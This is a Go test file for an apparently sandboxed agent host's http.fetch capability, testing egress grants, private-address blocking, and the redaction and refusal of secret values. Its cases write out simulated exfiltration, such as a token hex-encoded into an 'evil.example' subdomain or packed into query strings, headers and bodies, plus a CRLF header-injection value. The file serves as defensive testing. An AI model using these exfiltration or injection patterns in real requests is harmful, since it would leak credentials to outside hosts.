package host

import (
	"bytes"
	"context"
	"encoding/base64"
	"encoding/hex"
	"encoding/json"
	"fmt"
	"io"
	"net"
	"net/http"
	"net/http/httptest"
	"net/netip"
	"net/url"
	"strings"
	"testing"

	"github.com/wharf-agent/wharf/engine/egress"
	"github.com/wharf-agent/wharf/engine/secret"
	"github.com/wharf-agent/wharf/engine/session"
	"github.com/wharf-agent/wharf/host/capability"
)

const token = "tk-5f0c/a+b=93 e1"

// networkManifest is the guest's with capabilities in the place of its own.
func networkManifest(capabilities string) string {
	before, _, _ := strings.Cut(guestManifest, "[capabilities]")
	return strings.ReplaceAll(before, "200ms", "10s") + "[capabilities]\n" + capabilities
}

const webCapabilities = `http = ["* https://api.example.com/v1/*", "GET https://api.example.com/moved", "GET https://other.example.com/*"]
secrets = [
	{ name = "TOKEN", host = "api.example.com", header = "Authorization", format = "Bearer {}" },
	{ name = "TOKEN", host = "*.wild.example", header = "X-Wild", format = "{}" },
	{ name = "UNSET", host = "api.example.com", header = "X-Unset", format = "{}" },
	{ name = "SHORT", host = "api.example.com", header = "X-Short", format = "{}" },
]
`

// web is what guests of a test reach: every name is a server of the test's.
type web struct {
	server *httptest.Server
	seen   []*http.Request
	bodies []string
}

func (w *web) LookupNetIP(_ context.Context, _, host string) ([]netip.Addr, error) {
	if strings.HasPrefix(host, "inner.") {
		return []netip.Addr{netip.MustParseAddr("10.0.0.1")}, nil
	}
	return []netip.Addr{netip.MustParseAddr("93.184.216.34")}, nil
}

// joinWeb joins a session whose network is handle.
func joinWeb(t *testing.T, manifest string, grant capability.Grant, handle http.HandlerFunc) (*Session, *journal, *web) {
	t.Helper()
	w := &web{}
	w.server = httptest.NewTLSServer(http.HandlerFunc(func(out http.ResponseWriter, in *http.Request) {
		body, _ := io.ReadAll(in.Body)
		w.seen, w.bodies = append(w.seen, in), append(w.bodies, string(body))
		handle(out, in)
	}))
	t.Cleanup(w.server.Close)
	variables := map[string]string{"TOKEN": token, "SHORT": "1234567"}
	store, err := secret.NewStore(secret.Config{LookupEnv: func(name string) (string, bool) { v, ok := variables[name]; return v, ok }})
	if err != nil {
		t.Fatal(err)
	}
	pool := w.server.Client().Transport.(*http.Transport).TLSClientConfig.RootCAs
	j := &journal{}
	s, err := load(t, shared, "guest", manifest, Options{Grant: grant}).Session(t.Context(), SessionConfig{
		Record: j.record, Secrets: store,
		Network: egress.ClientConfig{RootCAs: pool, Dialer: egress.Dialer{
			Resolver: w, Connect: func(ctx context.Context, _ netip.AddrPort) (net.Conn, error) {
				var d net.Dialer
				return d.DialContext(ctx, "tcp", w.server.Listener.Addr().String())
			},
		}},
	})
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(s.Close)
	return s, j, w
}

func fetched(t *testing.T, s *Session, request string) string {
	t.Helper()
	return operate(t, s, "http.fetch", request)
}

// The test's server has a certificate for example.com and names below it.
func TestFetch(t *testing.T) {
	s, j, w := joinWeb(t, networkManifest(webCapabilities), capability.All(), func(out http.ResponseWriter, in *http.Request) {
		out.Header().Set("Date", "today")
		out.Header().Add("X-Two", "a")
		out.Header().Add("X-Two", "b")
		http.SetCookie(out, &http.Cookie{Name: "c", Value: "d"})
		switch in.URL.Path {
		case "/v1/binary":
			out.Header().Set("Content-Type", "x/y")
			_, _ = out.Write([]byte{0xff, 0})
		case "/v1/large":
			_, _ = out.Write(bytes.Repeat([]byte("x"), 1<<20+1))
		case "/v1/escaped":
			_, _ = out.Write(bytes.Repeat([]byte("\""), 600_000))
		case "/v1/away":
			http.Redirect(out, in, "https://api.example.com/v2/", http.StatusFound)
		case "/v1/moved":
			http.Redirect(out, in, "https://other.example.com/x", http.StatusFound)
		case "/v1/down":
			http.Redirect(out, in, "http://api.example.com/v1/", http.StatusFound)
		default:
			fmt.Fprintf(out, "%s %s", in.Method, in.Header.Get("X-A"))
		}
	})
	const headers = `"content-length":"%d","content-type":"text/plain; charset=utf-8","date":"today","x-two":"a, b"`
	response := func(body, url string) string {
		return fmt.Sprintf(`0{"status":200,"headers":{`+headers+`},"body":%q,"url":%q}`, len(body), body, url)
	}
	tests := []struct{ name, request, want string }{
		{"a GET", `{"method":"GET","url":"https://API.example.com:443/v1/x#y"}`, response("GET ", "https://api.example.com/v1/x")},
		{"with headers", `{"method":"GET","url":"https://api.example.com/v1/x","headers":{"x-a":"1"}}`, response("GET 1", "https://api.example.com/v1/x")},
		{"with nulls, as an SDK may send them", `{"headers":null,"method":"GET","secrets":null,"body":"","url":"https://api.example.com/v1/x"}`, response("GET ", "https://api.example.com/v1/x")},
		{"a body", `{"method":"POST","url":"https://api.example.com/v1/x","body":"hello"}`, response("POST ", "https://api.example.com/v1/x")},
		{"a body of bytes", `{"method":"PUT","url":"https://api.example.com/v1/x","body_base64":"/wA="}`, response("PUT ", "https://api.example.com/v1/x")},
		{"an answer of bytes", `{"method":"GET","url":"https://api.example.com/v1/binary"}`, `0{"status":200,"headers":{"content-length":"2","content-type":"x/y","date":"today","x-two":"a, b"},"body_base64":"/wA=","url":"https://api.example.com/v1/binary"}`},
		{"a redirect to what is granted", `{"method":"GET","url":"https://api.example.com/v1/moved"}`, response("GET ", "https://other.example.com/x")},
		{"another host", `{"method":"GET","url":"https://evil.example/"}`, `1{"code":"NOT_GRANTED","message":"http.fetch: capability not granted: http: the manifest does not ask for it: add \"GET https://evil.example/\" to http under [capabilities], and grant it"}`},
		{"another method", `{"method":"POST","url":"https://other.example.com/x"}`, `1{"code":"NOT_GRANTED","message":"http.fetch: capability not granted: http: the manifest does not ask for it: add \"POST https://other.example.com/x\" to http under [capabilities], and grant it"}`},
		{"a redirect to another path", `{"method":"GET","url":"https://api.example.com/v1/away"}`, `1{"code":"NOT_GRANTED","message":"http.fetch: GET https://api.example.com/v2/: not allowed: capability not granted: http: the manifest does not ask for it: add \"GET https://api.example.com/v2/\" to http under [capabilities], and grant it"}`},
		{"a redirect out of https", `{"method":"GET","url":"https://api.example.com/v1/down"}`, `1{"code":"NOT_GRANTED","message":"http.fetch: redirect: not allowed: it leads from https to http"}`},
		{"an answer that is too large", `{"method":"GET","url":"https://api.example.com/v1/large"}`, `4{"code":"OVER_LIMIT","message":"http.fetch: over a limit: the response has more than 1048576 bytes"}`},
		{"an answer that is too large once escaped", `{"method":"GET","url":"https://api.example.com/v1/escaped"}`, `4{"code":"OVER_LIMIT","message":"http.fetch: over a limit: the response has 1200152 bytes: that is over the limit output, 1048576"}`},
		{"a user in the URL", `{"method":"GET","url":"https://a:b@api.example.com/v1/"}`, `2{"code":"BAD_REQUEST","message":"http.fetch: bad request: url: it names a user: a password belongs into a header, by secrets"}`},
		{"two bodies", `{"method":"POST","url":"https://api.example.com/v1/","body":"a","body_base64":"YQ=="}`, `2{"code":"BAD_REQUEST","message":"http.fetch: bad request: \"body\" and \"body_base64\" exclude each other"}`},
		{"many secrets", `{"method":"GET","url":"https://api.example.com/v1/","secrets":["A","A","A","A","A","A","A","A","A"]}`, `2{"code":"BAD_REQUEST","message":"http.fetch: bad request: \"secrets\" may name 8"}`},
		{"many headers", `{"method":"GET","url":"https://api.example.com/v1/","headers":{"a":"` + strings.Repeat("x", 40_000) + `","b":"` + strings.Repeat("x", 40_000) + `"}}`, `2{"code":"BAD_REQUEST","message":"http.fetch: the headers have 80002 bytes, and may have 65536"}`},
		{"no base64", `{"method":"POST","url":"https://api.example.com/v1/","body_base64":"%"}`, `2{"code":"BAD_REQUEST","message":"http.fetch: bad request: \"body_base64\": illegal base64 data at input byte 0"}`},
		{"a header that is the host's", `{"method":"GET","url":"https://api.example.com/v1/","headers":{"Host":"evil.example"}}`, `2{"code":"BAD_REQUEST","message":"http.fetch: header \"Host\" is not for a request to set"}`},
		{"a header with a line break", `{"method":"GET","url":"https://api.example.com/v1/","headers":{"X-A":"a\r\nHost: b"}}`, `2{"code":"BAD_REQUEST","message":"http.fetch: header \"X-A\" has a value that cannot be sent"}`},
		{"no method", `{"url":"https://api.example.com/v1/"}`, `2{"code":"BAD_REQUEST","message":"http.fetch: bad request: \"method\" must be there, such as \"GET\""}`},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			if got := fetched(t, s, tt.request); got != tt.want {
				t.Errorf("got  %.400s\nwant %s", got, tt.want)
			}
		})
	}
	if w.bodies[3] != "hello" || w.bodies[4] != "\xff\x00" {
		t.Errorf("bodies: %q", w.bodies)
	}
	want := "guest used http.fetch GET https://api.example.com/v1/x: allowed\nchecked api.example.com:443 true: * https://api.example.com/v1/*\n"
	if got := j.lines(); !strings.HasPrefix(got, want) {
		t.Errorf("recorded:\n%s", got)
	}
}

// An address of this machine is reached only where manifest and grant name it
// with its port; a name never leads there.
func TestFetchOpensOneAddress(t *testing.T) {
	server := httptest.NewServer(http.HandlerFunc(func(out http.ResponseWriter, _ *http.Request) { fmt.Fprint(out, "here") }))
	defer server.Close()
	at := server.Listener.Addr().String()
	asked := fmt.Sprintf(`http = ["GET http://%s/*", "GET http://localhost/*", "GET https://inner.example/*"]`, at)
	request := fmt.Sprintf(`{"method":"GET","url":"http://%s/"}`, at)
	pattern, err := egress.ParsePattern("GET http://" + at + "/*")
	if err != nil {
		t.Fatal(err)
	}
	for _, grant := range []capability.Grant{capability.All(), capability.Only(capability.Set{HTTP: []egress.Pattern{pattern}})} {
		s := joinExtension(t, load(t, shared, "guest", networkManifest(asked), Options{Grant: grant}), &journal{})
		if got := fetched(t, s, request); !strings.Contains(got, `"body":"here"`) {
			t.Errorf("got %s", got)
		}
	}
	s := joinExtension(t, load(t, shared, "guest", networkManifest(asked), Options{}), &journal{})
	if got := fetched(t, s, request); !strings.HasPrefix(got, `1{"code":"NOT_GRANTED","message":"http.fetch: capability not granted: http: the user did not grant it`) {
		t.Errorf("without a grant: %s", got)
	}
	s, _, _ = joinWeb(t, networkManifest(asked), capability.All(), func(http.ResponseWriter, *http.Request) {})
	for url, want := range map[string]string{
		"http://localhost/":      `1{"code":"NOT_GRANTED","message":"http.fetch: not allowed: localhost is a name of this machine`,
		"https://inner.example/": `1{"code":"NOT_GRANTED","message":"http.fetch: inner.example: not allowed: the address 10.0.0.1 is of a private network"}`,
	} {
		if got := fetched(t, s, `{"method":"GET","url":"`+url+`"}`); !strings.HasPrefix(got, want) {
			t.Errorf("%s:\n got %s\nwant %s", url, got, want)
		}
	}
}

// The call's deadline ends a request.
func TestFetchEndsWithTheCall(t *testing.T) {
	manifest := strings.Replace(networkManifest(webCapabilities), `timeout = "10s"`, `timeout = "100ms"`, 1)
	begun, ended := make(chan bool, 100), make(chan bool, 100)
	s, _, _ := joinWeb(t, manifest, capability.All(), func(_ http.ResponseWriter, in *http.Request) {
		begun <- true
		<-in.Context().Done()
		ended <- true
	})
	for range cap(begun) { // on a busy machine a call may be over before its request gets anywhere
		if got := fetched(t, s, `{"method":"GET","url":"https://api.example.com/v1/"}`); !strings.HasPrefix(got, "error: no answer in time") {
			t.Errorf("got %s", got)
		}
		select {
		case <-begun:
			<-ended
			return
		default:
		}
	}
	t.Error("no request came to the server")
}

func TestSecretsGoWhereTheyAreBoundTo(t *testing.T) {
	s, j, w := joinWeb(t, networkManifest(webCapabilities), capability.All(), func(out http.ResponseWriter, in *http.Request) {
		if in.URL.Path == "/v1/moved" {
			http.Redirect(out, in, "/v1/next", http.StatusFound)
		}
	})
	tests := []struct{ name, request, want string }{
		{"to its host", `{"method":"GET","url":"https://api.example.com/v1/","secrets":["TOKEN"]}`, `0{"status":200`},
		{"to another host", `{"method":"GET","url":"https://other.example.com/","secrets":["TOKEN"]}`, `1{"code":"NOT_GRANTED","message":"http.fetch: capability not granted: secrets: the manifest does not ask for it: add { name = \"TOKEN\", host = \"other.example.com\", header = \"Authorization\", format = \"Bearer {}\" } to secrets under [capabilities], and grant it"}`},
		{"one that is not asked for", `{"method":"GET","url":"https://api.example.com/v1/","secrets":["HOME"]}`, `1{"code":"NOT_GRANTED","message":"http.fetch: capability not granted: secrets: the manifest does not ask for it`},
		{"no name", `{"method":"GET","url":"https://api.example.com/v1/","secrets":["a b"]}`, `2{"code":"BAD_REQUEST","message":"http.fetch: bad request: \"a b\" is no name of a variable"}`},
		{"one that is not set", `{"method":"GET","url":"https://api.example.com/v1/","secrets":["UNSET"]}`, `3{"code":"FAILED","message":"http.fetch: the secret UNSET is not to be had: Wharf says at its start why"}`},
		{"one that is too short", `{"method":"GET","url":"https://api.example.com/v1/","secrets":["SHORT"]}`, `3{"code":"FAILED","message":"http.fetch: the secret SHORT is not to be had: Wharf says at its start why"}`},
		{"into a header that is set", `{"method":"GET","url":"https://api.example.com/v1/","headers":{"authorization":"x"},"secrets":["TOKEN"]}`, `2{"code":"BAD_REQUEST","message":"http.fetch: bad request: header \"Authorization\" is a secret's to set here"}`},
		{"not beyond a redirect", `{"method":"GET","url":"https://api.example.com/v1/moved","secrets":["TOKEN"]}`, `0{"status":200`},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			if got := fetched(t, s, tt.request); !strings.HasPrefix(got, tt.want) {
				t.Errorf("got  %s\nwant %s", got, tt.want)
			}
		})
	}
	var sent []string
	for _, r := range w.seen {
		sent = append(sent, r.URL.Path+" "+r.Header.Get("Authorization")+r.Header.Get("X-Wild"))
	}
	if want := "/v1/ Bearer " + token + "\n/v1/moved Bearer " + token + "\n/v1/next "; strings.Join(sent, "\n") != want {
		t.Errorf("sent:\n%s", strings.Join(sent, "\n"))
	}
	if got := j.lines(); !strings.Contains(got, "guest used http.fetch TOKEN for api.example.com: allowed") ||
		!strings.Contains(got, "guest used http.fetch TOKEN for other.example.com: refused") {
		t.Errorf("recorded:\n%s", got)
	}
}

// forms are the ways in which a value may stand in a text.
func forms(value string) map[string]string {
	return map[string]string{
		"as it is": value, "hexadecimal": hex.EncodeToString([]byte(value)), "escaped": url.QueryEscape(value),
		"base64":               base64.StdEncoding.EncodeToString([]byte(value)),
		"base64 behind a byte": base64.StdEncoding.EncodeToString([]byte(":" + value)),
		"base64 behind two":    base64.StdEncoding.EncodeToString([]byte("::" + value)),
		"base64 for URLs":      base64.RawURLEncoding.EncodeToString([]byte("x" + value + "y")),
	}
}

// A request that carries the value of a secret does not leave, wherever it
// stands in it.
func TestLeaksAreRefused(t *testing.T) {
	s, j, w := joinWeb(t, networkManifest(webCapabilities), capability.All(), func(http.ResponseWriter, *http.Request) {})
	if got := fetched(t, s, `{"method":"GET","url":"https://api.example.com/v1/","secrets":["TOKEN"]}`); !strings.HasPrefix(got, `0{"status":200`) {
		t.Fatal(got) // now the value is known
	}
	const want = `1{"code":"NOT_GRANTED","message":"http.fetch: not allowed: the request carries the value of the secret TOKEN, which goes nowhere but where the host puts it"}`
	for name, form := range forms(token) {
		half := len(form) / 2
		requests := map[string]map[string]any{
			"path":             {"url": "https://api.example.com/v1/" + url.PathEscape(strings.ReplaceAll(form, "/", "_"))},
			"query":            {"url": "https://api.example.com/v1/?q=" + url.QueryEscape(form)},
			"header":           {"headers": map[string]string{"X-A": "x" + form}},
			"body":             {"body": `{"a":"` + form + `"}`},
			"method":           {"method": form},
			"name of a header": {"headers": map[string]string{form: "x"}},
			"packed body":      {"body_base64": base64.StdEncoding.EncodeToString([]byte("\xff" + form))},
			"two headers":      {"headers": map[string]string{"X-A": form[:half], "X-B": form[half:]}},
			"header and body":  {"headers": map[string]string{"X-A": form[:half]}, "body": form[half:]},
		}
		if strings.ContainsAny(form, "/%") {
			delete(requests, "path") // escaped slashes are refused there before
		}
		for place, request := range requests {
			if request["url"] == nil {
				request["url"] = "https://api.example.com/v1/"
			}
			if request["method"] == nil {
				request["method"] = "POST"
			}
			raw, err := json.Marshal(request)
			if err != nil {
				t.Fatal(err)
			}
			if got := fetched(t, s, string(raw)); got != want {
				t.Errorf("%s in the %s (%s):\n got %s\nwant %s", name, place, raw, got, want)
			}
		}
	}
	if len(w.seen) != 1 {
		t.Errorf("%d requests left; want the first alone", len(w.seen))
	}
	if !strings.HasSuffix(j.lines(), "\nchecked api.example.com:443 false: not allowed: the request carries the value of the secret TOKEN, which goes nowhere but where the host puts it") {
		t.Errorf("recorded:\n%s", j.lines())
	}
	noValue(t, "the log", j.dump(t))
}

// A server that was sent a secret cannot have it carried on to another host,
// though both are granted.
func TestRedirectCarriesNoValue(t *testing.T) {
	form := ""
	s, j, w := joinWeb(t, networkManifest(webCapabilities), capability.All(), func(out http.ResponseWriter, _ *http.Request) {
		out.Header().Set("Location", "https://other.example.com/?t="+url.QueryEscape(form))
		out.WriteHeader(http.StatusFound)
	})
	const want = `1{"code":"NOT_GRANTED","message":"http.fetch: GET https://other.example.com/: not allowed: its URL carries the value of the secret TOKEN"}`
	for _, form = range forms(token) {
		if got := fetched(t, s, `{"method":"GET","url":"https://api.example.com/v1/","secrets":["TOKEN"]}`); got != want {
			t.Errorf("%s:\n got %s\nwant %s", form, got, want)
		}
	}
	if len(w.seen) != len(forms(token)) {
		t.Errorf("%d requests left; want those to the first host alone", len(w.seen))
	}
	if !strings.HasSuffix(j.lines(), "\nchecked other.example.com:443 false: its URL carries the value of the secret TOKEN") {
		t.Errorf("recorded:\n%s", j.lines())
	}
}

// noValue checks that a text holds the token in no form.
func noValue(t *testing.T, what, text string) {
	t.Helper()
	for name, form := range forms(token) {
		form = strings.TrimRight(form, "=")[4 : len(form)-4] // its edges may belong to what stands beside it
		if at := strings.Index(text, form); at >= 0 {
			t.Errorf("%s holds the value (%s): %q", what, name, text[max(0, at-40):min(len(text), at+60)])
		}
	}
}

// dump is all that was recorded, as it is written to disk.
func (j *journal) dump(t *testing.T) string {
	t.Helper()
	var all strings.Builder
	for _, e := range j.events {
		line, err := session.Encode(session.Record{Event: e})
		if err != nil {
			t.Fatal(err)
		}
		all.Write(line)
	}
	return all.String()
}

// Whatever a server does with a secret, and whatever a guest does with what it
// gets: the value is in no answer, no log, no error, and not in the guest's memory.
func TestValuesReachNobody(t *testing.T) {
	form := ""
	s, j, _ := joinWeb(t, networkManifest(webCapabilities), capability.All(), func(out http.ResponseWriter, in *http.Request) {
		out.Header().Set("X-Echo", url.QueryEscape(form))
		out.Header().Set("Set-Cookie", token)
		switch in.URL.Path {
		case "/v1/error":
			if c, _, err := out.(http.Hijacker).Hijack(); err == nil {
				fmt.Fprintf(c, "HTTP/1.1 %s\r\n\r\n", token) // quoted by net/http's error
				c.Close()
			}
		case "/v1/redirect":
			out.Header().Set("Location", "https://"+hex.EncodeToString([]byte(token))+".evil.example/"+url.PathEscape(form))
			out.WriteHeader(http.StatusFound)
		case "/v1/binary":
			fmt.Fprintf(out, "\xff\xfe%s\x00", form)
		default:
			fmt.Fprintf(out, "you sent %s, twice: %s", form, form)
		}
	})
	var said strings.Builder
	call := func(payload string) string {
		answer := ask(t, s, payload)
		said.WriteString(answer)
		memory, _ := s.instance.module.Memory().Read(0, s.instance.module.Memory().Size())
		clear(memory[1024 : 1024+64<<10]) // the test's own payloads
		noValue(t, "the guest's memory", string(memory))
		return answer
	}
	for _, form = range forms(token) {
		for _, path := range []string{"", "error", "redirect"} {
			call("chttp.fetch\n" + `{"method":"GET","url":"https://api.example.com/v1/` + path + `","secrets":["TOKEN"]}`)
		}
		for _, payload := range []string{"e" + form, "g" + form, "cno.such." + form + "\n{}", "ckv.get\n{\"key\":\"" + form + "\"}"} {
			call(payload)
		}
		var binary struct {
			Body []byte `json:"body_base64"`
		}
		got := call(`chttp.fetch` + "\n" + `{"method":"GET","url":"https://api.example.com/v1/binary","secrets":["TOKEN"]}`)
		if err := json.Unmarshal([]byte(got[1:]), &binary); err != nil || !bytes.Contains(binary.Body, []byte("[redacted:TOKEN]")) {
			t.Errorf("a body of bytes: %s: %q, %v", got, binary.Body, err)
		}
	}
	noValue(t, "what guests answer", said.String())
	noValue(t, "the log", j.dump(t))
	if !strings.Contains(said.String(), "you sent [redacted:TOKEN], twice: [redacted:TOKEN]") {
		t.Errorf("answers: %s", said.String())
	}
}

// What a guest logs in pieces is looked at as one text.
func TestLoggedInPieces(t *testing.T) {
	store, err := secret.NewStore(secret.Config{})
	if err != nil {
		t.Fatal(err)
	}
	store.Know("TOKEN", token)
	tests := []struct{ name, text, want string }{
		{"whole", "a " + token + " b", "a [redacted:TOKEN] b"},
		{"in two lines", "a " + token[:5] + "\n" + token[5:] + " b", "a [redacted:TOKEN]\n b"},
		{"in four lines", token[:2] + "\n" + token[2:5] + "\n" + token[5:9] + "\n" + token[9:] + " b\nc", "[redacted:TOKEN]\n b\nc"},
		{"its beginning alone", "a " + token[:5] + "\nb", "a " + token[:5] + "\nb"},
		{"over the limit's edge", strings.Repeat("x", 65_530) + token, strings.Repeat("x", 65_530) + "[redac\nthe rest of what this call logs is dropped: it is over the limit log, 64 KiB a call"},
		{"its beginning at the end", "a\nb " + token[:5], "a\nb " + token[:5]},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			j := &journal{}
			s, err := load(t, shared, "wasi", leastManifest, Options{}).Session(t.Context(), SessionConfig{Record: j.record, Secrets: store})
			if err != nil {
				t.Fatal(err)
			}
			defer s.Close()
			ask(t, s, "1"+tt.text)
			var got []string
			for _, e := range j.events {
				got = append(got, e.(session.ExtensionLogged).Text)
			}
			if strings.Join(got, "\n") != tt.want {
				t.Errorf("logged %q; want %q", got, tt.want)
			}
		})
	}
	// The last words of a guest that dies are in the error.
	s, err := load(t, shared, "wasi", leastManifest, Options{}).Session(t.Context(), SessionConfig{Secrets: store})
	if err != nil {
		t.Fatal(err)
	}
	defer s.Close()
	ask(t, s, "2"+strings.Repeat("x", 190)+token)
	if got := ask(t, s, "x"); strings.Contains(got, token[:5]) {
		t.Errorf("the error is %s", got)
	}
}
